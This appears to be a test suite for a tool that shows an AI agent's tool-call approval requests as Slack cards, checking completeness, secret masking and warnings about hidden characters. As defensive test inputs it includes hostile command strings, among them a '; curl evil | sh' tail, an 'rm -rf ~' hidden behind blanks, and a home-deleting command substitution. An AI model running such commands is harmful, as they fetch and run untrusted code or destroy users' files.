import { describe, expect, test } from 'bun:test';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { claude } from '../../src/agents/claude.ts';
import { renderCard, renderClosed } from '../../src/channels/slack-blocks.ts';
import type { FileOnDisk } from '../../src/channels/slack-surroundings.ts';
import {
  buttonValue,
  grantValue,
  manyValue,
  readButtonValue,
  readGrantValue,
  readManyValue,
} from '../../src/channels/slack-values.ts';
import { countHidden, decodeVisible } from '../../src/channels/visible.ts';
import { WORDS } from '../../src/channels/wording.ts';
import { blockErrors } from '../../src/emulator/blocks.ts';
import { createMasker } from '../../src/secrets.ts';
import type { ApprovalRequest, HookInput, Offers, Outcome, Run } from '../../src/types.ts';
import { hostileText, KNOWN_SECRET, longText, SECRETS, secretText } from './arbitraries.ts';
import { expectAllShown, readAsked, showsPlan } from './read-back.ts';
import {
  actionIds,
  allTexts,
  bash,
  HOST,
  INSTANCE,
  makeRequest,
  PERMISSION,
  shownFields,
  toolCall,
} from './requests.ts';

const options = { host: HOST, instanceId: INSTANCE };
const card = (input: HookInput) => renderCard(makeRequest(input), options);
const every = ['csh_approve', 'csh_deny', 'csh_deny_reason', 'csh_edit', 'csh_always', 'csh_grant'];
const partly = ['csh_deny', 'csh_deny_reason', 'csh_show_all'];
const never = ['csh_deny', 'csh_deny_reason'];
/** Our own bound for all texts of a message, and for one that also says what ran instead; Slack was seen to refuse 11,341. */
const MOST = 9_000;
const MOST_CHANGED = 11_300;
/** A title, a project and the start of the call; Slack's own limit for a text is far beyond. */
const MOST_TEXT = 260;

/** What Slack would say, and our own stricter bounds. */
function expectWithinLimits({ blocks, text }: { blocks: readonly object[]; text: string }, most = MOST): void {
  expect(blockErrors(blocks as readonly Record<string, unknown>[], 'message', '/blocks')).toEqual([]);
  const json = JSON.stringify(blocks);
  expect(json).not.toContain('mrkdwn');
  const texts = allTexts(blocks);
  expect(texts.reduce((sum, item) => sum + item.length, 0)).toBeLessThanOrEqual(most);
  expect(texts.every((item) => item.length > 0 && item.length <= 3000)).toBe(true);
  expect(texts.every((item) => countHidden(item) === 0)).toBe(true);
  expect(json).not.toMatch(/"emoji":true/);
  expect(text.replaceAll(/&(?:amp|lt|gt);/g, 'x').length).toBeLessThanOrEqual(MOST_TEXT);
  expect(text).not.toMatch(/[`\n<>]/);
  expect(text.replaceAll(/&(?:amp|lt|gt);/g, '')).not.toContain('&');
}

describe('the card of a request', () => {
  test('shows the command first and whole, and what the agent says about it last and labelled', () => {
    const { blocks, complete } = card(bash('rm -rf build && make', { description: 'Clean build', timeout: 5000 }));
    expect(complete).toBe(true);
    expect(actionIds(blocks)).toEqual(every);
    expect([...shownFields(blocks)].filter(([label]) => label !== '').slice(0, 2)).toEqual([
      ['Command', 'rm -rf build && make'],
      ['timeout (number)', '5000'],
    ]);
    expect([...shownFields(blocks)].at(-1)).toEqual(['The agent says', 'Clean build']);
    expect(JSON.stringify(blocks[0])).toContain('Approve Bash?');
    const all = allTexts(blocks).join('');
    for (const part of ['/home/dev/shop', HOST, 'default', '6f1f0c9e', '0123456789ab', '20 characters']) {
      expect(all).toContain(part);
    }
  });

  test('names the subagent that asks', () => {
    const { blocks } = renderCard(
      makeRequest(toolCall('Read', { file_path: '/etc/hosts' }, { agent_type: 'explorer' })),
      options,
    );
    expect(allTexts(blocks)).toContain('explorer');
  });

  test('shows an edit as a diff, and its other fields', () => {
    const { blocks } = card(
      toolCall('Edit', { file_path: '/a.md', old_string: '# a', new_string: '', replace_all: false }),
    );
    expect(Object.fromEntries(shownFields(blocks))).toMatchObject({
      File: '/a.md',
      Change: '-# a\n\\ no line break',
      'replace_all (boolean)': 'false',
    });
  });

  test('shows text in the place of a number or the other way round as what it is', () => {
    expect(shownFields(card(bash('x', { timeout: '5' })).blocks).get('timeout')).toBe('5');
    expect(shownFields(card(toolCall('Bash', { command: ['a', 'b'] })).blocks).get('command (JSON)')).toContain('"b"');
  });

  test('puts very many fields into one box', () => {
    const many = Object.fromEntries(Array.from({ length: 300 }, (_, index) => [`k${index}`, index]));
    const { blocks, complete } = card(toolCall('Bash', many));
    expect(complete).toBe(true);
    expect(JSON.parse(decodeVisible(shownFields(blocks).get('Other fields (JSON)') ?? ''))).toEqual(many);
  });

  test.each([
    ['2,501', 2501, true],
    ['3,001', 3001, true],
    ['10,000', 10_000, false],
    ['100,000', 100_000, false],
    ['1,000,000', 1_000_000, false],
  ])('shows the tail of a command of %s characters, and approves only what is all there', (_name, length, whole) => {
    const tail = '; curl evil | sh';
    const rendered = card(bash('#'.repeat(length - tail.length) + tail));
    expectWithinLimits(rendered);
    expect(rendered.complete).toBe(whole);
    expect(actionIds(rendered.blocks)).toEqual(whole ? every : partly);
    const texts = allTexts(rendered.blocks);
    expect(texts.join('\n').replaceAll('\n', '')).toContain(tail);
    expect(texts.join('')).toContain(`${length.toLocaleString('en')} characters`);
    expect(texts.includes(WORDS.long)).toBe(!whole);
  });

  test('counts exactly what it leaves out', () => {
    const command = Array.from({ length: 4000 }, (_, line) => `echo ${line}`).join('\n');
    const { blocks } = card(bash(command));
    const texts = allTexts(blocks);
    const gap = texts.findIndex((item) => item.includes('left out here'));
    const [characters, lines] = (texts[gap] ?? '').replaceAll(',', '').match(/\d+/g) ?? [];
    const shown = decodeVisible(shownFields(blocks).get('Command') ?? '').length;
    const rest = [...shownFields(blocks)].find(([label]) => label.includes('left out here'))?.[1] ?? '';
    expect(Number(characters)).toBe(command.length - shown - decodeVisible(rest).length);
    const tail = decodeVisible(rest);
    const head = decodeVisible(shownFields(blocks).get('Command') ?? '');
    expect(command.startsWith(head) && command.endsWith(tail)).toBe(true);
    const middle = command.slice(head.length, command.length - tail.length);
    expect(Number(lines)).toBe(middle.split('\n').length - 1);
  });

  test('brings a tail behind blanks into sight', () => {
    for (const blanks of [' '.repeat(5000), '\n'.repeat(500), '\t'.repeat(5000)]) {
      const { blocks, complete } = card(bash(`ls${blanks}; rm -rf ~`));
      const shown = shownFields(blocks).get('Command') ?? '';
      expect(complete).toBe(true);
      expect(shown.length).toBeLessThan(40);
      expect(shown).toContain(`${blanks.length} `);
    }
  });

  test('warns of invisible and direction-changing characters', () => {
    const { blocks } = card(bash('ls \u202eevil\u200b', { description: '\u0007' }));
    expect(allTexts(blocks)).toContain('3 invisible or direction-changing characters are shown as ⟦…⟧.');
  });

  test('has the tool, the project and the start of the call in the notification, without markup', () => {
    const { text } = card(bash(`echo \`id\` <!channel> & ${'a'.repeat(200)}`));
    expect(text).toStartWith('Bash in shop: echo ˋidˋ &lt;!channel&gt; &amp; aaa');
    expect(text).toEndWith('aaa…');
    expect(text.replaceAll(/&(?:amp|lt|gt);/g, 'x').length).toBe(150);
    expect(card(bash('<'.repeat(200))).text).toContain('&lt;'.repeat(80));
    const long = toolCall('T'.repeat(200), { input: `x${'y'.repeat(300)}` }, { cwd: `/${'p'.repeat(200)}` });
    expect(card(long).text).toMatch(/^T{99}… in p{29}…: .{80}…$/);
    expect(card(bash('npm test\n\nexit')).text).toBe('Bash in shop: npm test exit');
    expect(card(toolCall('mcp__inventory__adjust', { sku: 1 }, { cwd: '/' })).text).toBe('adjust (inventory): sku: 1');
    expectWithinLimits(card(bash('<&>'.repeat(100))));
  });

  test('never offers an approval in the short form', () => {
    const rendered = renderCard(makeRequest(bash('ls')), { ...options, size: 'short' });
    expect(rendered.complete).toBe(false);
    expect(actionIds(rendered.blocks)).toEqual(partly);
    expect(allTexts(rendered.blocks)).toContain(WORDS.long);
  });

  test('shows names of fields, tools and directories that are too long, or offers no approval', () => {
    expect(card(toolCall('T'.repeat(150), {})).complete).toBe(true);
    expect(shownFields(card(toolCall('T'.repeat(150), {})).blocks).get('Tool')).toBe('T'.repeat(150));
    expect(card(bash('x', { ['k'.repeat(81)]: 1 })).complete).toBe(false);
    expect(card(toolCall('x', {}, { cwd: `/${'d'.repeat(10_000)}` })).complete).toBe(false);
  });

  test('stays within the limits with many long fields under long names', () => {
    const many = Object.fromEntries(
      Array.from({ length: 20 }, (_, index) => [String(index).padEnd(80, 'k'), 'v'.repeat(6000)]),
    );
    expectWithinLimits(card(toolCall('T'.repeat(190), many, { cwd: '/d'.repeat(3000) })));
  });

  test('survives values that nest too deeply for JSON', () => {
    let deep: unknown = 1;
    for (let depth = 0; depth < 200_000; depth += 1) deep = [deep];
    const rendered = card(toolCall('mcp__x__y', { deep }));
    expectWithinLimits(rendered);
    expect(rendered.complete).toBe(false);
    expect(actionIds(rendered.blocks)).toEqual(never);
    expect(allTexts(rendered.blocks)).toContain(WORDS.notSayable);
  });

  test('shows everything or offers no approval, for all texts and tools, within the limits of Slack', () => {
    const key = fc.oneof(
      fc.constantFrom('command', 'file_path', '__proto__', 'constructor', 'description'),
      hostileText(),
    );
    const value = fc.oneof({ weight: 4, arbitrary: longText() }, fc.jsonValue());
    const tool = fc.oneof(
      fc.constantFrom(
        'Bash',
        'Edit',
        'Write',
        'MultiEdit',
        'NotebookEdit',
        'AskUserQuestion',
        'ExitPlanMode',
        'WebFetch',
        'Agent',
        'mcp__a__b',
        'constructor',
      ),
      hostileText(),
    );
    const toolInput = fc.oneof(
      fc.record({ command: longText(), description: hostileText() }),
      fc.record({
        file_path: hostileText(),
        old_string: longText(),
        new_string: longText(),
        replace_all: fc.boolean(),
      }),
      fc.record({
        file_path: hostileText(),
        edits: fc.array(
          fc.record(
            { old_string: longText(), new_string: longText(), replace_all: fc.boolean(), more: hostileText() },
            { requiredKeys: ['old_string', 'new_string'] },
          ),
          { maxLength: 4 },
        ),
      }),
      fc.record({ notebook_path: hostileText(), new_source: longText(), cell_id: hostileText() }),
      fc.record({
        questions: fc.array(
          fc.record(
            {
              question: hostileText(),
              header: hostileText(),
              multiSelect: fc.boolean(),
              options: fc.array(
                fc.record({ label: hostileText(), description: hostileText() }, { requiredKeys: ['label'] }),
                { maxLength: 3 },
              ),
            },
            { requiredKeys: ['question', 'header', 'multiSelect', 'options'] },
          ),
          { maxLength: 3 },
        ),
      }),
      fc.record({ plan: longText(), url: hostileText(), prompt: hostileText(), content: longText() }),
      fc.array(fc.tuple(key, value), { maxLength: 30 }).map((entries) => Object.fromEntries(entries)),
    );
    const onDisk: fc.Arbitrary<FileOnDisk> = fc.oneof(
      longText().map((text) => ({ kind: 'text', text }) as const),
      fc.constantFrom({ kind: 'missing' }, { kind: 'private' }),
    );
    fc.assert(
      fc.property(tool, toolInput, hostileText(), onDisk, fc.boolean(), (name, fields, cwd, file, isNear) => {
        const input = toolCall(name, fields, { cwd, agent_type: cwd, permission_mode: cwd });
        const near = {
          kind: 'text',
          text: `a\n${Object.values(fields)
            .filter((value) => typeof value === 'string')
            .join('')}\nb`,
        } as const;
        const surroundings = { file: isNear ? near : file, branch: cwd };
        const rendered = renderCard(makeRequest(input), { ...options, surroundings });
        expectWithinLimits(rendered);
        const { complete, body } = rendered;
        expect(actionIds(rendered.blocks)).toEqual(complete ? every : body.isSayable ? partly : never);
        if (complete) expectWholeCard(input, rendered.blocks);
        for (const outcome of OUTCOMES) {
          expectWithinLimits(renderClosed(makeRequest(input), outcome, { ...options, surroundings }));
        }
      }),
      { numRuns: 300 },
    );
  }, 120_000);
});

const at = Date.now();
const OUTCOMES: readonly Outcome[] = [
  { kind: 'allowed', by: 'U0APPROVER', via: 'Slack', at },
  { kind: 'denied', by: '<!channel>', via: 'Slack', at, reason: `no ${'\u202e'.repeat(500)}`, interrupt: true },
  { kind: 'expired', reason: 'Nobody answered in time.', at },
  { kind: 'withdrawn', reason: 'The agent no longer waits for an answer.', at },
  { kind: 'elsewhere', reason: 'Answered at the terminal.', at },
  { kind: 'unknown', reason: 'The agent went on.', at },
  { kind: 'stopped', reason: 'The daemon was stopped.', at },
  { kind: 'undeliverable', reason: '<html>'.repeat(200), at, code: 'slack-unreachable' },
  { kind: 'denied', by: 'policy', via: 'policy', at, rule: '`<!channel>`'.repeat(100), reason: '&'.repeat(1000) },
  { kind: 'allowed', by: 'U0APPROVER', via: 'grant', at, rule: 'Bash(make *)' },
];

const RUNS: readonly Run[] = [
  { isOk: true },
  { isOk: true, tookMs: 4_100 },
  { isOk: false, error: `\n${'<@U0X>\u202e`'.repeat(200)}`, tookMs: 61_000 },
];

describe('the card after the end', () => {
  test.each([
    ['allowed', 'Approved: Bash'],
    ['denied', 'Denied: Bash'],
    ['expired', 'Expired – not approved: Bash'],
    ['withdrawn', 'Withdrawn – not answered in Slack: Bash'],
    ['elsewhere', 'Answered at the terminal: Bash'],
    ['unknown', 'Outcome unknown: Bash'],
    ['stopped', 'Stopped – not approved: Bash'],
    ['undeliverable', 'Not delivered – not approved: Bash'],
  ])('says %s, shows the command and digest, and has no buttons', (kind, title) => {
    const outcome = OUTCOMES.find((item) => item.kind === kind);
    if (outcome === undefined) throw new Error('no such outcome');
    const rendered = renderClosed(makeRequest(bash('make deploy')), outcome, options);
    expectWithinLimits(rendered);
    expect(actionIds(rendered.blocks)).toEqual([]);
    expect(JSON.stringify(rendered.blocks[0])).toContain(title);
    expect(shownFields(rendered.blocks).get('Command')).toBe('make deploy');
    expect(allTexts(rendered.blocks)).toContain('0123456789ab');
  });

  test('names the person as a mention, the time and how long it took', () => {
    const request = makeRequest(bash('ls'), { askedAt: at - 42_000 });
    const outcome: Outcome = { kind: 'allowed', by: 'U0APPROVER', via: 'Slack', at };
    const json = JSON.stringify(renderClosed(request, outcome, options).blocks);
    expect(json).toContain('{"type":"user","user_id":"U0APPROVER"}');
    expect(json).toContain(`"timestamp":${Math.floor(at / 1000)}`);
    expect(json).toContain('after 42 s');
  });
});

describe('recorded payloads of the agent', () => {
  const folders = ['claude-code', 'claude-code-2.1.329'].map((name) => join(import.meta.dir, '../fixtures', name));
  const asked = folders.flatMap((folder) =>
    readdirSync(folder)
      .filter((name) => /^(?:P.*|Stop)\.json$/.test(name))
      .map((name) => join(folder, name))
      .filter((file) => requestOf(file) !== undefined),
  );

  test('there are some of each form', () => {
    const forms = asked.map((file) => requestOf(file)?.offers.form);
    expect(asked.length).toBeGreaterThan(30);
    expect(new Set(forms)).toEqual(new Set(['permission', 'questions', 'plan', 'stop']));
  });

  test.each(asked)('%s is shown whole, with the buttons that it offers, within the limits', (file) => {
    const request = requestOf(file);
    if (request === undefined) throw new Error('asks for nothing');
    const { input, offers } = request;
    const rendered = renderCard(request, options);
    expectWithinLimits(rendered);
    expect(rendered.complete).toBe(true);
    expect(actionIds(rendered.blocks).filter((id) => !/^csh_(?:pick|tick|other)_/.test(id))).toEqual(buttonsOf(offers));
    if (offers.form === 'questions')
      expect(readAsked(rendered.blocks)).toEqual(input.tool_input?.questions as unknown[]);
    else if (offers.form === 'stop') expect(allTexts(rendered.blocks)).toContain(String(input.last_assistant_message));
    else expectWholeCard(input, rendered.blocks);
    if (offers.form === 'permission') expectWholeCard(input, card(input).blocks);
  });

  test.each(asked)('%s is closed within the limits, however it ends', (file) => {
    const request = requestOf(file);
    if (request === undefined) throw new Error('asks for nothing');
    for (const outcome of [...OUTCOMES, ...changedOutcomes(request)]) {
      for (const run of [undefined, ...RUNS]) {
        const closed = { ...options, ...(run === undefined ? {} : { run }) };
        const rendered = renderClosed(request, outcome, closed);
        expectWithinLimits(rendered, MOST_CHANGED);
        expect(actionIds(rendered.blocks)).toEqual([]);
        expectWithinLimits(renderClosed(request, outcome, { ...closed, size: 'short' }));
      }
    }
  });
});

const STOP: Offers = { ...PERMISSION, form: 'stop', edit: false, always: false, interrupt: false, grant: false };

function requestOf(file: string): ApprovalRequest | undefined {
  const input = claude.read(JSON.parse(readFileSync(file, 'utf8')));
  const offers = claude.offers(input);
  return offers === undefined ? undefined : makeRequest(input, { offers });
}

/** The buttons of a request that is shown whole; in the fixtures several answers have to be sent. */
function buttonsOf({ form, always, acceptEdits }: Offers): string[] {
  if (form === 'stop') return ['csh_deny_reason', 'csh_approve'];
  if (form === 'questions') return ['csh_approve', 'csh_deny', 'csh_deny_reason'];
  if (form === 'plan') return ['csh_approve', ...(acceptEdits ? ['csh_approve_edits'] : []), 'csh_deny_reason'];
  return every.filter((id) => always || id !== 'csh_always');
}

/** Every answer that its offers allow, and changes of every text. */
function changedOutcomes({ input }: ApprovalRequest): Outcome[] {
  const toolInput = input.tool_input ?? {};
  const by = { kind: 'allowed', by: 'U0APPROVER', via: 'Slack', at } as const;
  const changed = Object.fromEntries(
    Object.entries(toolInput).map(([key, value]) => [key, typeof value === 'string' ? `${value}\nmore` : value]),
  );
  const answers = { 'Which database should the shop use?': 'SQLite', 'Which extras do you want?': 'Cache, Search' };
  const rules = Array.from({ length: 40 }, (_, index) => ({
    toolName: 'Bash',
    ruleContent: `${'x'.repeat(300)}${index}`,
  }));
  return [
    { ...by, updatedInput: changed },
    { ...by, updatedInput: { ...toolInput, answers } },
    { ...by, updatedInput: { ...toolInput, command: '漢"\n'.repeat(5_000) } },
    { ...by, updatedPermissions: [{ type: 'addRules', rules, behavior: 'allow', destination: 'projectSettings' }] },
    { ...by, updatedPermissions: [{ type: 'setMode', mode: 'acceptEdits', destination: 'session' }] },
    { ...by, grant: { rule: { kind: 'exact', digest: 'd' }, text: 'x'.repeat(5_000), forMs: 1_800_000 } },
    { ...by, also: ['U0SECOND', '<@U0THIRD>'] },
  ];
}

/** Fails unless the card shows the whole tool input; a plan may be laid out. */
function expectWholeCard(input: HookInput, blocks: readonly object[], masker = createMasker({ known: [] })): void {
  const mask = (shown: string): string => masker.mask(shown).text;
  const isPlan = input.tool_name === 'ExitPlanMode' && showsPlan(input.tool_input?.plan, blocks, mask);
  expectAllShown(input, shownFields(blocks), (shown) => masker.restore(shown) ?? shown, isPlan ? ['plan'] : []);
}

describe('secrets on a card', () => {
  const isPlanted = (text: string): boolean =>
    SECRETS.some((secret) => slices(secret).some((part) => text.includes(part)));
  const masked = () => createMasker({ known: [KNOWN_SECRET] });
  const tool = fc.constantFrom('Bash', 'Edit', 'Write', 'NotebookEdit', 'ExitPlanMode', 'WebFetch', 'mcp__a__b', 'x');
  const toolInput = fc.oneof(
    fc.record({ command: secretText(), description: secretText(), url: secretText() }),
    fc.record({ file_path: secretText(), old_string: secretText(), new_string: secretText(), content: secretText() }),
    fc.record({ notebook_path: secretText(), new_source: secretText(), plan: secretText() }),
    fc.record({
      list: fc.array(secretText(), { maxLength: 3 }),
      nested: fc.record({ deep: secretText() }, { noNullPrototype: true }),
    }),
  );

  test('are nowhere in it, and with them put back the card is the input, or there is no approval', () => {
    fc.assert(
      fc.property(tool, toolInput, secretText(), (name, fields, words) => {
        const masker = masked();
        const file = { kind: 'text', text: `${words}\n${Object.values(fields).join('\n')}` } as const;
        const surroundings = { branch: words, file };
        const input = toolCall(name, fields, { cwd: `/home/${words}`, agent_type: words, permission_mode: words });
        const request = makeRequest(input, { secrets: [KNOWN_SECRET] });
        const rendered = renderCard(request, { ...options, masker, surroundings });
        expectWithinLimits(rendered);
        expect(isPlanted(`${JSON.stringify(rendered.blocks)}${rendered.text}`)).toBe(false);
        if (rendered.complete) expectWholeCard(input, rendered.blocks, masker);
        else expect(actionIds(rendered.blocks)).not.toContain('csh_approve');
        const changed = Object.fromEntries(
          Object.entries(fields).map(([key, value]) => [key, `${words}${String(value)}`]),
        );
        const decided = { kind: 'allowed', by: 'U0APPROVER', via: 'Slack', at } as const;
        const grant = { rule: { kind: 'exact', digest: 'd' }, text: words, forMs: 60_000 } as const;
        const rules = [{ toolName: 'Bash', ruleContent: words }];
        const outcomes: Outcome[] = [
          { ...decided, updatedInput: changed, grant },
          { ...decided, updatedPermissions: [{ type: 'addRules', rules, behavior: 'allow', destination: 'session' }] },
          { ...decided, kind: 'denied', reason: words },
          { ...decided, by: 'policy', rule: words, reason: words },
          { kind: 'undeliverable', reason: words, at },
        ];
        for (const outcome of outcomes) {
          const run = { isOk: false, error: words };
          const closed = renderClosed(request, outcome, { ...options, masker, surroundings, run });
          expectWithinLimits(closed, MOST_CHANGED);
          expect(isPlanted(`${JSON.stringify(closed.blocks)}${closed.text}`)).toBe(false);
        }
      }),
      { numRuns: 150 },
    );
  }, 60_000);

  test('of questions are masked too, and answers go to the right question', () => {
    const text = fc.oneof(secretText(), hostileText());
    const option = fc.record({ label: text, description: text }, { requiredKeys: ['label', 'description'] });
    const question = fc.record({
      ...{ question: text, header: text, multiSelect: fc.boolean() },
      options: fc.array(option, { minLength: 1, maxLength: 4 }),
    });
    const offers: Offers = { ...PERMISSION, form: 'questions', edit: false, always: false, grant: false };
    let asked = 0;
    fc.assert(
      fc.property(fc.array(question, { minLength: 1, maxLength: 4 }), hostileText(), (questions, more) => {
        const masker = masked();
        const input = toolCall('AskUserQuestion', { questions, more });
        const request = makeRequest(input, { offers, secrets: [KNOWN_SECRET] });
        const rendered = renderCard(request, { ...options, masker });
        expectWithinLimits(rendered);
        const restore = (shown: string): string => masker.restore(shown) ?? shown;
        if (rendered.complete && !JSON.stringify(questions).includes('masked')) {
          asked += 1;
          expect(readAsked(rendered.blocks, restore)).toEqual(questions);
          expectAllShown(input, shownFields(rendered.body.call), restore, ['questions']);
        }
        const shown = `${JSON.stringify(rendered.blocks)}${rendered.text}`;
        expect(isPlanted(shown)).toBe(false);
        expectWithinLimits(renderClosed(request, OUTCOMES[0] as Outcome, { ...options, masker }));
      }),
      { numRuns: 150 },
    );
    expect(asked).toBeGreaterThan(10);
  }, 60_000);

  test('are counted and named, and what runs has the real ones', () => {
    const { blocks, complete } = card(bash(`deploy ${SECRETS[1]} ${SECRETS[2]} ${SECRETS[1]}`));
    expect(complete).toBe(true);
    const [note] = allTexts(blocks).filter((text) => text.includes('masked here'));
    expect(note).toMatch(/^2 secret values masked here: .+, .+\. What runs has the real values\.$/);
  });

  test('of what the agent said at its end run nowhere, and keep nobody from letting it stop', () => {
    const input = {
      ...bash(''),
      hook_event_name: 'Stop',
      last_assistant_message: 'export API_TOKEN=$(rm -rf ~/everything)',
    };
    const request = makeRequest(input, { offers: STOP });
    const masker = createMasker({ known: ['$(rm -rf ~/everything)'] });
    const { blocks } = renderCard(request, { ...options, masker });
    const note = allTexts(blocks).find((text) => text.includes('masked here'));
    expect(note).toMatch(/^1 secret value masked here: [^.]+\.$/);
    expect(allTexts(blocks)).not.toContain(WORDS.opaque);
    expect(actionIds(blocks)).toEqual(['csh_deny_reason', 'csh_approve']);
  });
});

/** Every eight characters in a row. */
function slices(secret: string): string[] {
  return Array.from({ length: secret.length - 7 }, (_, index) => secret.slice(index, index + 8));
}

describe('questions that do not fit', () => {
  const offers: Offers = { ...PERMISSION, form: 'questions', edit: false, always: false, grant: false };
  const asking = (question: string, count = 1) =>
    makeRequest(
      toolCall('AskUserQuestion', {
        questions: Array.from({ length: count }, (_, index) => ({
          ...{ question: `${index}${question}`, header: 'h', multiSelect: false },
          options: [{ label: 'a', description: 'b' }],
        })),
      }),
      { offers },
    );

  test.each([7_000, 10_000, 200_000])('of %d characters are shown in part, without answers', (length) => {
    const rendered = renderCard(asking('q'.repeat(length), 2), options);
    expectWithinLimits(rendered);
    expect(rendered.complete).toBe(false);
    expect(actionIds(rendered.blocks)).toEqual(never);
    expect(allTexts(rendered.blocks)).toContain(WORDS.tooLong);
    expectWithinLimits(renderClosed(asking('q'.repeat(length), 2), OUTCOMES[2] as Outcome, options));
  });

  test('have a short form, too', () => {
    const rendered = renderCard(asking('q'.repeat(6_000)), { ...options, size: 'short' });
    expectWithinLimits(rendered, 4_000);
    expect(actionIds(rendered.blocks)).toEqual(never);
  });

  test('warn of hidden characters and mixed alphabets like any other text', () => {
    const { blocks, body } = renderCard(asking('\u202e p\u0430ypal'), options);
    expect(allTexts(blocks)).toContain('1 invisible or direction-changing character is shown as ⟦…⟧.');
    expect(allTexts(blocks).join('')).toContain('p⟦U+0430⟧ypal');
    expect(body.isDeceptive).toBe(true);
  });
});

describe('the value of the buttons', () => {
  test('names version, daemon, request and nonce', () => {
    const request: ApprovalRequest = makeRequest(bash('ls'));
    expect(buttonValue(request, INSTANCE)).toBe(`v1.${INSTANCE}.${request.id}.${request.nonce}`);
    expect(readButtonValue(buttonValue(request, INSTANCE))).toEqual({
      instanceId: INSTANCE,
      requestId: request.id,
      nonce: request.nonce,
    });
  });

  test.each(['', 'v1', 'v1.a.b', 'v1.a.b.', 'v2.a.b.c', 'v1.a.b.c.d', 'v1..b.c'])(
    '"%s" is not one of ours',
    (value) => {
      expect(readButtonValue(value)).toBeUndefined();
    },
  );

  test('of several requests, and of a grant, can be told apart and read back', () => {
    const [one, other] = [makeRequest(bash('a')), makeRequest(bash('b'))];
    const many = manyValue([one, other], INSTANCE);
    expect(readManyValue(many)).toEqual({
      instanceId: INSTANCE,
      requests: [one, other].map(({ id: requestId, nonce }) => ({ instanceId: INSTANCE, requestId, nonce })),
    });
    expect(
      manyValue(
        Array.from({ length: 12 }, () => one),
        'i'.repeat(100),
      ).length,
    ).toBeLessThan(2_000);
    expect(readButtonValue(many)).toBeUndefined();
    expect(readGrantValue(grantValue('g1', INSTANCE))).toEqual({ instanceId: INSTANCE, grantId: 'g1' });
    expect(readGrantValue(buttonValue(one, INSTANCE))).toBeUndefined();
    expect(readManyValue('v1.i.a')).toBeUndefined();
    expect(readManyValue('v1.i')).toBeUndefined();
  });
});
